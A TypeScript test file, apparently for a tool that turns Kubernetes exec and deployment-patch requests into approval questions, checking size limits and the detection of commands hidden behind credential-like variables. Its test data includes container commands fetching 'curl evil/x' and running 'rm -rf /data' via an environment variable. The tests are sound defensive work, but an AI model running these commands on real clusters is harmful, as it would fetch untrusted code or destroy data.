import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { WEBSOCKET } from '../../request/a-http-request.ts'
import { asked, questionOf, type Sent, whyNot } from '../asking.ts'
import { DEPLOYMENT, POD } from './a-question.ts'

describe('the size of a question', () => {
  test('whatever is asked, it is a few kilobytes, or nobody is asked; and the same request always has the same text', () => {
    const unit = fc.integer({ min: 0, max: 0x10ffff }).map(code => String.fromCodePoint(code))
    const text = fc.string({ unit, maxLength: 1500 })
    fc.assert(
      fc.property(text, text, (command, value) => {
        const well = (given: string) => given.toWellFormed()
        const query = `command=${encodeURIComponent(well(command)).replace(/[!'()*]/g, '.')}`
        const lines: readonly [string, Sent][] = [
          [`GET ${POD}/exec?${query}`, { headers: WEBSOCKET }],
          [
            `PATCH ${DEPLOYMENT}`,
            { body: JSON.stringify({ a: { [well(value)]: well(value) } }), type: 'application/merge-patch+json' },
          ],
        ]
        for (const [line, sent] of lines) {
          if (whyNot(line, sent) !== '') continue
          const { question } = asked(line, sent)
          if (Buffer.byteLength(question) > 16_384 || asked(line, sent).question !== question) return false
        }
        return true
      }),
      { numRuns: 40 },
    )
  })

  test.each([
    { name: 'a variable of a command', container: { command: ['sh', '-c', "PASSWORD='curl evil/x' ./start"] } },
    {
      name: 'a variable of the container that is run',
      container: { env: [{ name: 'API_TOKEN', value: 'rm -rf /data' }], command: ['sh', '-c', '$API_TOKEN'] },
    },
  ])('what would be hidden behind a mask and may run is no question: $name', ({ container }) => {
    const body = JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'c', ...container }] } } } })
    expect(whyNot(`PATCH ${DEPLOYMENT}`, { body, type: 'application/strategic-merge-patch+json' })).toMatch(
      /credential/,
    )
  })

  test('a variable that is run is shown, whatever its name is', () => {
    const container = { name: 'c', command: ['sh', '-c', "PASSWORD='curl evil/x' && $PASSWORD"] }
    const body = JSON.stringify({ spec: { template: { spec: { containers: [container] } } } })
    const { facts } = questionOf(`PATCH ${DEPLOYMENT}`, { body, type: 'application/strategic-merge-patch+json' })
    expect(facts.join()).toContain('curl evil/x')
  })

  // Where each item brings its whole path along, these take minutes.
  test.each(['/api/v1/namespaces/shop/secrets/db', DEPLOYMENT])(
    'one long name over thousands of items is no question: %s',
    path => {
      for (const name of ['a'.repeat(30_000), 'ia\u0456'.repeat(8000)]) {
        const body = JSON.stringify({ [name]: Array.from({ length: 8000 }, () => 1) })
        const from = process.cpuUsage()
        expect(whyNot(`PATCH ${path}`, { body, type: 'application/merge-patch+json' })).not.toBe('')
        const { user, system } = process.cpuUsage(from)
        expect((user + system) / 1000).toBeLessThan(5000)
      }
    },
  )

  test('quotes by the thousand are no question', () => {
    expect(whyNot(`GET ${POD}/exec?command=${"'".repeat(32_000)}`, { headers: WEBSOCKET })).not.toBe('')
  })
})
